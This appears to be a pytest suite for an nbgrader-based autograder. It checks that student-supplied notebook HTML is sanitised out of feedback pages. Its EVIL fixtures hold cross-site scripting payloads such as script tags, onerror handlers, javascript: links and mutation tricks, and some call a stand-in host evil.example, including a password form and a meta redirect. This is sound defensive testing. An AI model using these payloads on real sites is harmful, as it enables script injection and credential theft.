"""Feedback pages are nbconvert's own, less what could run or load something, and the second one comes cheap."""

from __future__ import annotations

import re
import time
from pathlib import Path

import nbgrader
import pytest
from bs4 import BeautifulSoup
from conftest import read
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from traitlets.config import Config

from autograder.grading import sanitised
from autograder.grading.marker import _cleaned
from autograder.grading.pages import POLICY, FeedbackExporter, SafeExporter

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
TORN = [
    "</div>",
    "a </p> b",
    "<div>\n\n*open*",
    "<b>open",
    "<!-- open",
    "closed -->",
    '<a title="open',
    "<script>open",
    "</script></body></html>",
    "<table><tr><td>",
    "</td></tr></table>",
    "<![CDATA[ open",
    "]]> <textarea>",
    "</textarea>",
    "<style>open </main>",
    "</br> x </img>",
]
SOUND = [
    "",
    " ",
    "just *text* with `code` & an ampersand, &nbsp; &amp;amp; &lt;b&gt; &#39; &copy; é 中 \x0c",
    "# A heading\n\n- a list\n- of two\n\n| a | b |\n|---|---|\n| $x < y$ | $$\\frac{a}{b}$$ |",
    "<details><summary>More</summary>\n\nhidden\n</details>",
    "![](picture.png) <img src=x> <img alt='' src=y> ![text](files/z.png)",
    '<a href="files/notes.txt">notes</a>',
    '<div class="jp-Notebook"><div class="jp-OutputArea-output">x</div></div>',
    "<x-end></x-end> <x-piece></x-piece>",
    "<br><br/><hr> a  <br>  b",
    "<pre>\n\n  kept  \n</pre>   \n\n<p>text",
    "```python\nfor x in y:\n    print('<b>')\n```",
    "<!-- closed --> <!DOCTYPE html> <?php ?>",
    "<p class='a  b' CLASS=c data-x=\"'\">x</p>",
]


FORMGRADER = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
SETTINGS = Config()  # as `nbgrader generate_feedback` sets them
SETTINGS.HTMLExporter.template_name = "feedback"
SETTINGS.HTMLExporter.extra_template_basedirs = [str(FORMGRADER / "templates")]
SETTINGS.HTMLExporter.extra_template_paths = [str(FORMGRADER / "static/node_modules/bootstrap/dist/css")]
SETTINGS.Exporter.default_preprocessors = []


def pages(notebook):
    """The page as SafeExporter makes it, and as the quick one does: twice, since the second is made from memory."""
    ours = FeedbackExporter(config=SETTINGS)
    return [page(exporter, notebook) for exporter in (SafeExporter(config=SETTINGS), ours, ours)]


def page(exporter, notebook):
    about = {"notebook": "n", "score": 1, "max_score": 2, "late_penalty": 0}
    return exporter.from_notebook_node(notebook, {"nbgrader": about, "inlining": {"css": []}})[0]


def whole(cells):
    return new_notebook(cells=cells, metadata={"language_info": {"name": "python", "pygments_lexer": "ipython3"}})


def everywhere(text):
    """A notebook that shows a text in every way there is, among the cells of others."""
    outputs = [
        new_output("display_data", data={"text/html": text, "text/plain": text}),
        new_output("display_data", data={"text/html": text}, metadata={"text/html": {"isolated": True}}),
        new_output("display_data", data={"text/markdown": text}),
        new_output("display_data", data={"text/latex": text}),
        new_output("display_data", data={"image/svg+xml": text}),
        new_output("display_data", data={"image/png": PIXEL}),
        new_output("stream", text=text + "\n\x1b[31mred\x1b[0m"),
        new_output("error", ename=text, evalue=text, traceback=[text]),
        new_output("execute_result", data={"text/plain": text}, execution_count=1),
    ]
    graded = {"grade_id": "a", "grade": False, "solution": True, "comment": text}
    cells = [new_markdown_cell("before *it*"), new_code_cell("x = 1  # before\n"), new_markdown_cell(text)]
    cells += [
        new_code_cell(text, outputs=outputs),
        new_code_cell(text, metadata={"nbgrader": graded}),
        new_raw_cell(text),
    ]
    return whole([*cells, new_markdown_cell("after <b>it</b>"), new_code_cell("y = 2 < 3\n")])


@pytest.mark.parametrize("text", [*TORN, *SOUND])
def test_a_page_is_the_same_to_the_letter(text):
    theirs, first, second = pages(everywhere(text))
    assert first == theirs
    assert second == theirs


# --- nothing runs -----------------------------------------------------------------------------------------------------

EVIL = {
    "a script": "<script>alert(1)</script>",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler on a detail": "<details open ontoggle=alert(1)>x</details>",
    "a link that runs": "<a href='javascript:alert(1)'>x</a>",
    "a link that hides what it runs": "<a href=' java&#10;script:alert(1)'>x</a>",
    "a link in Markdown": "[x](javascript:alert(1))",
    "a link to a page of data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
    "a form": "<form action='https://evil.example/'><input type=password name=p><button>ok</button></form>",
    "a style sheet": "<style>body { display: none }</style><link rel=stylesheet href='https://evil.example/x.css'>",
    "a style that loads": "<p style='background: url(https://evil.example/x)'>x</p>",
    "a style that covers": "<div style='position: fixed; top: 0; left: 0; width: 100%; z-index: 9'>28 of 28</div>",
    "a class of the page": "<div class='panel panel-default nbgrader_cell'>28 of 28</div>",
    "a name of the page": "<a name='top' id='notebook'>x</a>",
    "a redirection": "<meta http-equiv=refresh content='0; url=https://evil.example/'><base href='https://evil.example/'>",
    "a picture from elsewhere": "<img src='https://evil.example/x.png'>",
    "a picture from elsewhere in Markdown": "![](https://evil.example/x.png)",
    "a picture from elsewhere, by its host": "<img src='//evil.example/x.png'>",
    "SVG": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "MathML": "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "a template": "<template><script>alert(1)</script></template>",
    "no script": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "MathJax's settings": "<script type='text/x-mathjax-config'>alert(1)</script>",
    "a comment": "<!--><img src=x onerror=alert(1)>-->",
    "a marquee": "<marquee onstart=alert(1)>x</marquee><video><source onerror=alert(1)></video>",
    "an attribute that is none": "<p a='b' \"'onmouseover=alert(1) x>x</p>",
}


def shown(cells):
    """What the quick exporter shows of cells, without the page around them and without code."""
    empty = page(FeedbackExporter(config=SETTINGS), whole([]))
    full = page(FeedbackExporter(config=SETTINGS), whole(cells))
    start = empty.index("<main>")
    assert full[: full.index("<main>")] == empty[:start]
    return full[full.index("<main>") :]


RUNS = {"script", "style", "iframe", "object", "embed", "form", "svg", "math", "base", "link", "meta"}


def dangers(markup):
    """Elements and attributes, of what a browser would make of this, that are not on a list of our own."""
    found = []
    for element in BeautifulSoup(markup, "html.parser").find_all(True):
        if element.name in (
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "svg",
            "math",
            "base",
            "link",
            "meta",
        ):
            found.append(element.name)
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            if name.startswith("on") or "javascript" in text or "evil.example" in text or "position" in text:
                found.append(f"{name}={text}")
            if name == "src" and not text.startswith("data:image/") and ":" in text:
                found.append(text)
    return found


@pytest.mark.parametrize("text", EVIL.values(), ids=EVIL)
def test_nothing_of_a_students_runs_or_loads_anything(text):
    output = new_output("display_data", data={"text/html": text, "text/plain": "x"})
    markdown = new_output("display_data", data={"text/markdown": text, "text/plain": "x"})
    around = dangers(shown([]))
    for cell in (new_markdown_cell(text), new_code_cell("1", outputs=[output]), new_code_cell("1", outputs=[markdown])):
        markup = shown([cell])
        assert dangers(markup) == around
        assert "nbgrader_cell" not in markup
        assert markup.count('id="notebook"') == 1
        assert 'name="top"' not in markup


@pytest.mark.parametrize(
    "data",
    [
        {"application/javascript": "alert(1)"},
        {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"},
        {"image/png": '" onerror="alert(1)'},
        {"text/latex": "$</script><script>alert(1)</script>$"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>"}},
        {"text/vnd.mermaid": "</pre><script>alert(1)</script>"},
        {"application/vnd.plotly.v1+json": {"data": "<script>alert(1)</script>"}},
        {"text/html": ["<script>", "alert(1)", "</script>"]},
    ],
)
def test_no_kind_of_output_runs(data):
    output = new_output("display_data", metadata={"image/png": {"width": "1 onerror=alert(1)"}, "isolated": True})
    output.data = data
    output.metadata["text/html"] = {"isolated": True}
    assert dangers(shown([new_code_cell("1", outputs=[output])])) == []


def test_what_honest_students_show_is_there():
    table = (
        '<div>\n<style scoped>td { color: red }</style><table border="1" class="dataframe">\n'
        '<thead><tr style="text-align: right;"><th></th><th>loss</th></tr></thead>'
        "<tbody><tr><th>0</th><td>2.5</td></tr></tbody></table></div>"
    )
    outputs = [
        new_output("display_data", data={"text/html": table, "text/plain": "t"}),
        new_output("display_data", data={"image/png": PIXEL + "\n"}, metadata={"image/png": {"width": 9, "height": 7}}),
        new_output("display_data", data={"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'/>"}),
        new_output("display_data", data={"text/latex": "$x < y$"}),
        new_output("stream", text="\x1b[31mred\x1b[0m <b>"),
    ]
    text = "Some *words*, $a < b$, a [link](https://pytorch.org), <details><summary>More</summary>\n\nhidden</details>"
    markup = shown([new_code_cell("1", outputs=outputs), new_markdown_cell(text)])
    for piece in (
        *('class="dataframe"', "text-align:right", "<td>2.5</td>", PIXEL, 'width="9"', "data:image/svg+xml;base64,"),
        *("$x &lt; y$", "ansi-red", "&lt;b&gt;", "<em>words</em>", 'href="https://pytorch.org"', "<summary>More"),
    ):
        assert piece in markup, piece


def test_a_page_says_what_it_may_load():
    made = page(FeedbackExporter(config=SETTINGS), whole([]))
    assert made.index(POLICY) < made.index("<script")
    sources = re.findall(r'<script[^>]*src="([^"?]*)', made)
    assert sources
    assert all(source.startswith("https://cdnjs.cloudflare.com/ajax/libs/mathjax/") for source in sources)
    assert ",Safe" in made  # MathJax's own guard against links to scripts in formulas
    inline = re.findall(r"<script(?![^>]*src=)([^>]*)>", made)
    assert all("text/x-mathjax-config" in attributes for attributes in inline)


def test_formgrader_cleans_text_cells_too():
    settings = Config()
    settings.HTMLExporter.filters = {"markdown2html": "autograder.grading.sanitised.markdown2html"}
    for text in EVIL.values():
        made = HTMLExporter(config=settings).from_notebook_node(whole([new_markdown_cell(text)]))[0]
        body = made[made.index("<main") : made.index("</main>")]
        assert dangers(body) == []
    code = "```python\nfor x in y:\n    pass\n```"
    made = HTMLExporter(config=settings).from_notebook_node(whole([new_markdown_cell(code)]))[0]
    assert '<span class="k">for</span>' in made


@pytest.mark.parametrize("text", ["", "a\ud800b", "a\x00b", "\x85", "\x9b31m"])
def test_odd_characters_leave_nobody_without_a_page(text):
    outputs = [
        new_output("stream", text=text),
        new_output("display_data", data={"text/html": text, "text/latex": text}),
    ]
    cell = new_code_cell("1", outputs=[sanitised_output(output) for output in outputs])
    assert shown([cell]).encode()


def sanitised_output(output):
    [clean] = _cleaned(output, 1)
    return clean


def test_pictures_attached_to_a_cell_are_its_own():
    twins = [new_markdown_cell("![p](attachment:p.png)") for _ in range(2)]
    for twin, data in zip(twins, (PIXEL, PIXEL[::-1]), strict=True):
        twin.attachments = {"p.png": {"image/png": data}}
    theirs, first, second = pages(whole(twins))
    assert first == second == theirs
    assert PIXEL in first
    assert PIXEL[::-1] in first


@pytest.mark.parametrize("name", ["05-attention", "11-translation"])
def test_the_course_s_own_notebooks_come_out_the_same_and_from_memory(name, caplog):
    notebook = read("solutions", name)
    for cell in notebook.cells:
        cell.metadata.get("nbgrader", {})["score"] = 1.0
    caplog.set_level("DEBUG", "traitlets")
    theirs, first, second = pages(notebook)
    assert first == second == theirs
    assert "Template paths" in caplog.text  # the log is listened to
    assert "torn" not in caplog.text


def test_a_second_page_costs_less_than_a_third_of_the_first():
    notebook = whole([new_code_cell(f"def function_{n}(x): return [x + {n}, 'a']\n" * 40) for n in range(40)])
    exporter = FeedbackExporter(config=SETTINGS)
    costs = []
    for _ in range(2):
        started = time.process_time()
        page(exporter, notebook)
        costs.append(time.process_time() - started)
    assert costs[1] < costs[0] / 3


COSTLY = {
    "environments": "\\begin{a}",
    "nested divisions": "<div>",
    "brackets": "[",
    "links": "[a](",
    "emphasis": "***a",
    "tables": "a|b\n-|-\n",
    "headings": "=\n",
    "quotations": "> ",
    "lists": "- ",
}


@pytest.mark.parametrize("unit", COSTLY.values(), ids=COSTLY)
def test_a_text_made_to_cost_is_cheap(unit):
    """As it comes out of mending: 200,000 characters in one cell at most."""
    cell = new_markdown_cell(sanitised.markdown(unit * (200_000 // len(unit))))
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": unit * (290_000 // len(unit))}}
    started = time.process_time()
    shown([cell, new_code_cell("1", outputs=[sanitised_output(output)])])
    assert time.process_time() - started < 10
